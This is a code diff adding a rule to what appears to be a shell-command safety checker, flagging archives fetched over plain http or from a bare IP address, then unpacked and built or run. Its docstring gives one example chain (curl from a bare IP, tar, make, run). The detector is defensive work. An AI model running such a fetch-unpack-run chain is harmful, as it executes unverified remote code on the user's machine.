@@ -612,6 +612,75 @@ def _compiled_download(analysis: ShellAnalysis) -> Rule:
         )
 
 
+# Archives, by the endings an unpacker strips to name what it unpacks (x.tar.gz unpacks to x/,
+# as release tarballs do), and the unpackers with the options that name where they unpack.
+_ARCHIVE = re.compile(r"\.(?:tar\.gz|tgz|tar\.xz|txz|tar\.bz2|tbz2?|tar\.zst|tar|zip|7z)$")
+_UNPACKERS = {"tar": ("-C", "--directory"), "unzip": ("-d",), "7z": ("-o",), "bsdtar": ("-C",)}
+_BUILDERS = frozenset({"make", "gmake", "cmake", "ninja"})
+
+
+def _unverified_fetch(cmd: SimpleCommand) -> str | None:
+    """Where a fetch gets its file from, where nothing verifies who answers: plain http, or a
+    bare IP address; None for anything else."""
+    for url in (a for a in cmd.args if "://" in a):
+        scheme, _, rest = url.partition("://")
+        host = rest.split("/", 1)[0].rsplit("@", 1)[-1].rsplit(":", 1)[0].strip("[]")
+        if scheme.lower() == "http" or re.fullmatch(r"[\d.]+|[0-9a-fA-F:]+", host):
+            return url
+    return None
+
+
+def _unpacked_then_run(analysis: ShellAnalysis) -> Rule:
+    """An archive fetched over plain http or from a bare address, unpacked, then its contents
+    built or run (`curl -sO http://203.0.113.19/x.tar.gz && tar xzf x.tar.gz && make -C x &&
+    ./x/x`): code from a source nobody verified, run without anyone reading it first. (From
+    https, release tarballs and clones are built this way every day: not this rule's.)"""
+    fetched: dict[str, str] = {}  # archive file name -> its URL
+    unpacked: dict[str, str] = {}  # directory its contents are in -> the URL
+    for cmd in analysis.commands:
+        url = _unverified_fetch(cmd) if cmd.name in FETCHERS else None
+        if url is not None:
+            for name in _download_targets(cmd):
+                fetched[posixpath.basename(name)] = url
+        if not fetched and not unpacked:
+            continue
+        if cmd.name in _UNPACKERS:
+            for a in cmd.args:
+                if posixpath.basename(a) in fetched:
+                    source = fetched[posixpath.basename(a)]
+                    into = option_values(cmd, *_UNPACKERS[cmd.name])
+                    stem = _ARCHIVE.sub("", posixpath.basename(a))
+                    for where in (*into, stem):
+                        unpacked[posixpath.normpath(where)] = source
+            continue
+        if not unpacked:
+            continue
+        ran = _executed_file(cmd)
+        places = [posixpath.normpath(ran)] if ran else []
+        if cmd.name in _BUILDERS:
+            places += [posixpath.normpath(d) for d in option_values(cmd, "-C", "--directory")]
+            places.append(posixpath.normpath(cmd.cwd or "."))
+        for place in places:
+            root = next(
+                (d for d in unpacked if place == d or place.startswith(d.rstrip("/") + "/")), None
+            )
+            if root is None and cmd.cwd:
+                base = posixpath.basename(posixpath.normpath(cmd.cwd))
+                root = base if base in unpacked else None
+            if root is not None:
+                yield harm(
+                    cmd,
+                    REMOTE_CODE_EXECUTION,
+                    f"{'builds' if cmd.name in _BUILDERS else 'runs'} code unpacked from "
+                    f"{unpacked[root]}, fetched where nothing verifies who answers, without "
+                    "anyone reading it first",
+                    "high",
+                    0.85,
+                    False,
+                )
+                return
+
+
 GENERIC = [_jndi]
 SCRIPT = [
     _compiled_download,
@@ -619,6 +688,7 @@ SCRIPT = [
     _substituted_execution,
     _download_then_execute,
     _decoded_then_executed,
+    _unpacked_then_run,
 ]
 _INSTALL_COMMANDS = (
     *("pip", "pip2", "pip3", *(f"pip3.{minor}" for minor in range(6, 16))),
